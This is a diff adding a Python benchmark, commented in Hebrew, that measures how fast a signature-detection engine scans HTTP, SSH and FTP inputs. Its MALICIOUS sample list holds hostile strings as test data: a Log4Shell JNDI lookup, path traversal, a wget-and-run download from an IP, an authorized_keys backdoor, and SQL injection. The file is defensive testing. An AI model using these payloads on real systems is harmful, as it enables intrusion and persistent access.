@@ -0,0 +1,155 @@
+"""
+מיקרו-בנצ'מרק למנוע החתימות (model/signatures): כמה קלטים לשנייה נסרקים
+מול rulesets של אלפי חתימות, לעומת לולאה נאיבית (substring + re.search לכל חתימה).
+
+    python -m benchmarks.signatures --rules 1000 5000 20000 --inputs 20000
+    python -m benchmarks.run --only signatures
+
+ה-ruleset: החתימות של data/signatures.json + חתימות סינתטיות (90% literal,
+10% regex עם literal כ-prefilter). הקלטים: נתיבי HTTP, פקודות SSH/FTP ו-body ארוך מדי פעם; adversarial: קלטי 8KB של literal
+שחוזר בלי שה-regex שלו מתאים.
+"""
+from __future__ import annotations
+import argparse
+import json
+import random
+import re
+import sys
+import time
+from pathlib import Path
+from typing import Any, Dict, List, Optional, Sequence
+
+ROOT = Path(__file__).resolve().parents[1]
+
+WORDS = ["admin", "backup", "config", "shell", "upload", "cgi", "portal", "api", "v1", "user", "debug", "login",
+         "setup", "install", "panel", "cmd", "exec", "data", "old", "test", "tmp", "dev", "static", "vendor"]
+EXTS = [".php", ".asp", ".aspx", ".jsp", ".cgi", ".bak", ".zip", ".sql", ".json", ".xml", ".txt"]
+BENIGN = ["GET /", "GET /login", "GET /static/app.js", "POST /login\nuser=admin&pass=123456", "ls -la", "uname -a",
+          "cd /tmp", "USER anonymous", "LIST", "{'port': 22}", "GET /favicon.ico", "whoami", "cat /proc/meminfo"]
+MALICIOUS = ["GET /?x=${jndi:ldap://45.1.2.3:1389/a}", "GET /..%2f..%2f..%2f..%2fetc%2fpasswd",
+             "cd /tmp; wget http://1.2.3.4/bins.sh | sh", "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+             "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "/bin/busybox ECCHI", "SITE CPFR /etc/passwd",
+             "GET /index.php?s=/Index/\\think\\app/invokefunction", "GET /?id=1 UNION ALL SELECT 1,2,3--"]
+
+
+def adversarial_inputs(size: int = 8192) -> List[str]:
+    """literal של prefilter שחוזר לאורך כל הקלט בלי שה-regex שלו מתאים (הגנה מסריקה ריבועית)."""
+    literals = ("id ", "' ", "../", "union ", "wget ", "site ", "${", "nc ")
+    return [(lit * (size // len(lit) + 1))[:size] for lit in literals]
+
+
+def synthetic_rules(n: int, seed: int = 1) -> List[Dict[str, Any]]:
+    rnd = random.Random(seed)
+    rules = []
+    for i in range(n):
+        path = "/" + "/".join(rnd.sample(WORDS, rnd.randint(1, 3))) + f"{i}" + rnd.choice(EXTS)
+        if i % 10 == 9:
+            rules.append({"id": f"synthetic.{i}", "literal": path, "regex": re.escape(path) + r"\?\w+=",
+                          "severity": "medium"})
+        else:
+            rules.append({"id": f"synthetic.{i}", "literal": path, "severity": rnd.choice(["low", "medium", "high"])})
+    return rules
+
+
+def synthetic_inputs(n: int, rules: Sequence[Dict[str, Any]], seed: int = 2) -> List[str]:
+    """~70% שפירים, ~20% פוגעים, ~10% נתיבים מה-ruleset הסינתטי; אחד מכל 50 עם body של 1KB."""
+    rnd = random.Random(seed)
+    out = []
+    for i in range(n):
+        r = rnd.random()
+        if r < 0.7:
+            s = rnd.choice(BENIGN)
+        elif r < 0.9:
+            s = rnd.choice(MALICIOUS)
+        else:
+            s = "GET " + rnd.choice(rules)["literal"] if rules else rnd.choice(BENIGN)
+        if i % 50 == 0:
+            s += "\n" + "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz=&") for _ in range(1024))
+        out.append(s)
+    return out
+
+
+def _naive(rules: Sequence[Dict[str, Any]]):
+    def literals(r):
+        lit = r.get("literal")
+        return [x.lower() for x in (lit if isinstance(lit, list) else [lit]) if x]
+
+    compiled = [(literals(r), re.compile(r["regex"], re.IGNORECASE) if r.get("regex") else None) for r in rules]
+
+    def scan(text: str) -> int:
+        t = text.lower()
+        hits = 0
+        for lits, rx in compiled:
+            if lits and not (lits[0] in t or (len(lits) > 1 and any(lit in t for lit in lits[1:]))):
+                continue
+            if rx is not None and not rx.search(t):
+                continue
+            hits += 1
+        return hits
+    return scan
+
+
+def _rate(fn, inputs: Sequence[str], budget: float) -> Dict[str, Any]:
+    """מריץ עד שנגמרים הקלטים או התקציב (שניות); מחזיר תפוקה."""
+    t0 = time.perf_counter()
+    n = 0
+    chars = 0
+    for s in inputs:
+        fn(s)
+        n += 1
+        chars += len(s)
+        if n % 256 == 0 and time.perf_counter() - t0 > budget:
+            break
+    elapsed = time.perf_counter() - t0
+    return {
+        "n": n,
+        "ops_per_sec": round(n / elapsed, 1) if elapsed else None,
+        "us_per_op": round(elapsed / n * 1e6, 3) if n else None,
+        "mb_per_sec": round(chars / elapsed / 2**20, 3) if elapsed else None,
+    }
+
+
+def bench_signatures(sizes: Sequence[int] = (1000, 5000, 20000), inputs: int = 20000,
+                     naive: bool = True, budget: float = 5.0, native: Optional[bool] = None) -> Dict[str, Any]:
+    sys.path.insert(0, str(ROOT))
+    from model.signatures import SignatureEngine
+
+    shipped = json.loads((ROOT / "data" / "signatures.json").read_text(encoding="utf-8"))["rules"]
+    out: Dict[str, Any] = {}
+    for size in sizes:
+        rules = shipped + synthetic_rules(max(0, size - len(shipped)))
+        texts = synthetic_inputs(inputs, rules[len(shipped):])
+        t0 = time.perf_counter()
+        engine = SignatureEngine(rules, native=native)
+        build = time.perf_counter() - t0
+        hits = sum(1 for t in texts[:2000] if engine.scan(t))
+        row: Dict[str, Any] = {
+            "rules": len(rules),
+            "automaton": "pyahocorasick" if engine.native else "python",
+            "build_seconds": round(build, 4),
+            "hit_ratio": round(hits / min(2000, len(texts)), 3),
+            "engine": _rate(engine.scan, texts, budget),
+        }
+        row["adversarial"] = _rate(engine.scan, adversarial_inputs() * 20, budget)
+        if naive:
+            row["naive"] = _rate(_naive(rules), texts, budget)
+        out[str(size)] = row
+    return out
+
+
+def main(argv: List[str] = None) -> Dict[str, Any]:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--rules", type=int, nargs="+", default=[1000, 5000, 20000], help="גדלי ruleset")
+    ap.add_argument("--inputs", type=int, default=20000, help="קלטים לכל גודל")
+    ap.add_argument("--budget", type=float, default=5.0, help="שניות מקסימום לכל מדידה")
+    ap.add_argument("--no-naive", action="store_true", help="בלי השוואה ללולאה הנאיבית")
+    ap.add_argument("--python", action="store_true", help="Aho-Corasick ב-Python גם אם pyahocorasick מותקן")
+    args = ap.parse_args(argv)
+    results = bench_signatures(args.rules, args.inputs, not args.no_naive, args.budget,
+                               native=False if args.python else None)
+    print(json.dumps(results, indent=2))
+    return results
+
+
+if __name__ == "__main__":
+    main()